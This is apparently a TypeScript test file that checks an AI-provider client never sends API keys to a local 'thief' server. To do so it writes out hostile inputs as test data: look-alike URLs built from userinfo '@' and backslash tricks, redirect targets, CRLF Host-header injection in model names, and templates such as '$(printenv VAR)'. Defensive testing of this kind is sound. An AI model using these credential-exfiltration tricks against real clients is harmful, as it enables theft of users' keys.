import assert from 'node:assert/strict';
import { test, type TestContext } from 'node:test';
import { apiKinds, type EndpointSpec } from '../../../src/shared/model/suite.ts';
import { environmentKeys } from '../../../src/core/cli/envKeys.ts';
import { UsageError } from '../../../src/core/cli/exitCode.ts';
import { modelsOf } from '../../../src/core/modelLists.ts';
import type { KeySource, UserProviders } from '../../../src/core/ports.ts';
import { brandOf } from '../../../src/core/providers/brands.ts';
import { createCaller } from '../../../src/core/providers/caller.ts';
import { keyOwners } from '../../../src/core/providers/keyOwners.ts';
import { resolveEndpoint } from '../../../src/core/providers/resolve.ts';
import type { CallResult, Endpoint } from '../../../src/core/providers/spec.ts';
import { brandServers } from '../../servers/brands/all.ts';
import { awsIdentity } from '../../servers/brands/bedrock.ts';
import { nameOf, type BrandServer } from '../../servers/brands/spec.ts';
import { formsOf, startThief, type Thief } from '../../servers/brands/thief.ts';
import { googleToken } from '../../servers/brands/vertex.ts';
import { modelOf, prepared, reach, signedIn, userOf } from './harness.ts';

const secretsOf = ({ key }: BrandServer): readonly string[] => [
  ...(key === null ? [] : [key]),
  googleToken,
  awsIdentity.accessKeyId,
  awsIdentity.secretAccessKey,
  awsIdentity.sessionToken,
];

async function listening(context: TestContext): Promise<Thief> {
  const thief = await startThief();
  context.after(() => thief.close());
  return thief;
}

function assertNothingTaken(thief: Thief, secrets: readonly string[], where: string): void {
  const taken = thief.taken();
  for (const secret of secrets) for (const form of formsOf(secret)) assert.ok(!taken.includes(form), `${where}: a key was taken`);
}

async function called(context: TestContext, endpoint: Endpoint, model: string, prompt = 'Say hello.'): Promise<CallResult> {
  const caller = createCaller({ signIns: signedIn });
  context.after(() => caller.dispose());
  const request = { model, system: null, prompt, params: {} };
  return caller.call(endpoint, request, { headersMs: 2000, idleMs: 2000, totalMs: 5000 }, new AbortController().signal);
}

/** What people hope that a tool fills in. */
const templates = (env: string): Readonly<Record<string, string>> => ({
  'x-dollar': `\${${env}} $${env} %${env}%`,
  'x-braces': `{{${env}}} {{ env.${env} }} {{key}} {{apiKey}} \${{ secrets.${env} }}`,
  'x-shell': `$(printenv ${env}) \`printenv ${env}\``,
});

/** Ways of writing an address that begins like the provider's own. */
const tricks = (home: string, { origin, port }: Thief): readonly string[] => [
  origin,
  `${origin}/${home}`,
  `${origin}//${new URL(home).host}`,
  `http://${new URL(home).host}@127.0.0.1:${port}/v1`,
  `http://127.0.0.1:${port}\\@${new URL(home).host}/v1`,
  `${origin}/v1?x=${home}`,
  `${origin}/v1#${home}`,
];

for (const brand of brandServers) {
  const name = nameOf(brand);
  const secrets = secretsOf(brand);
  const row = brandOf(brand.id);
  const env = row?.server?.keyEnv ?? 'OPENAI_API_KEY';

  test(`${name}: a suite that gives its name to a thief's address gets no key`, async (context) => {
    const thief = await listening(context);
    const home = (row?.server?.baseUrl ?? '').replaceAll(/\{\w+\}/g, 'acme');
    const origin = new URL(home).origin;
    // As in the editor: a key for each origin; and as in the CLI: every variable of every provider.
    const stored: KeySource = { key: async (request) => (request.origin === origin ? brand.key : null) };
    const variables = Object.fromEntries([...keyOwners().keys()].map((variable) => [variable, brand.key ?? googleToken]));
    const fromEnv = environmentKeys(variables, keyOwners(), {});
    const user = userOf({ ...brand, key: '' }, origin);
    for (const baseUrl of tricks(home, thief)) {
      for (const api of apiKinds) {
        const spec: EndpointSpec = { id: brand.id, api, baseUrl, headers: templates(env) };
        const plain = await robbed(context, brand, spec, stored, user);
        assert.equal(plain, !/[?#]|\/\/[^/\\]*@/.test(baseUrl), baseUrl);
        if (!plain) continue;
        await robbed(context, brand, spec, fromEnv, user);
        await assert.rejects(robbed(context, brand, { ...spec, keyEnv: env }, fromEnv, user), UsageError);
      }
    }
    assert.ok(thief.visits() > 0, 'the thief was called, without a key');
    assert.ok(thief.taken().includes(`\${${env}}`), 'a template goes out as it stands');
    assertNothingTaken(thief, secrets, 'under its name');
  });

  test(`${name}: a redirect to a thief is not followed`, async (context) => {
    const thief = await listening(context);
    const { server, call, keys, user } = await reach(context, brand);
    for (const status of [301, 302, 303, 307, 308]) {
      for (const redirect of [`${thief.origin}/v1`, `//127.0.0.1:${thief.port}/`, `http://x@127.0.0.1:${thief.port}`]) {
        server.be({ redirect, status });
        const { error } = await call();
        assert.equal(error?.kind, 'network', `${status} to ${redirect}`);
        assert.match(error.message, /the key was not sent there|was not sent/);
        if (brand.list !== null) await assert.rejects(modelsOf(brand.id, { keys, user }, new AbortController().signal));
      }
    }
    assert.equal(thief.visits(), 0);
  });

  test(`${name}: neither a model's name nor a prompt leads a key elsewhere`, async (context) => {
    const thief = await listening(context);
    const { server, call } = await reach(context, brand);
    const host = `127.0.0.1:${thief.port}`;
    const hostile = [
      `//${host}/x`,
      `@${host}/`,
      `..//..//${host}`,
      `http://${host}/v1`,
      `\\\\${host}\\x`,
      `x\r\nHost: ${host}\r\n\r\n`,
      `%2f%2f${host}`,
    ];
    for (const model of hostile) {
      const { error } = await call({ model, prompt: `http://${host}/ {{key}} \${${env}}` });
      assert.ok(error !== null, model);
    }
    for (const { raw, headers } of server.requests) {
      if (brand.key !== null) assert.ok(!raw.includes(brand.key), 'no key in a body');
      assert.equal(headers.host, new URL(server.origin).host);
    }
    assert.equal(thief.visits(), 0);
  });
}

/** Calls the endpoint that a suite describes as it would be called in a run; false where its address is refused. */
async function robbed(
  context: TestContext,
  brand: BrandServer,
  spec: EndpointSpec,
  keys: KeySource,
  user: UserProviders,
): Promise<boolean> {
  const model = modelOf(brand);
  const suite = { endpoints: [spec], user, demoOrigin: null, demoApis: {}, editorModels: false };
  if (!resolveEndpoint(brand.id, model, suite).ok) return false;
  const { endpoint } = await prepared(brand.id, model, user, keys, { endpoints: [spec] });
  await called(context, endpoint, model, Object.values(spec.headers ?? {}).join(' '));
  return true;
}
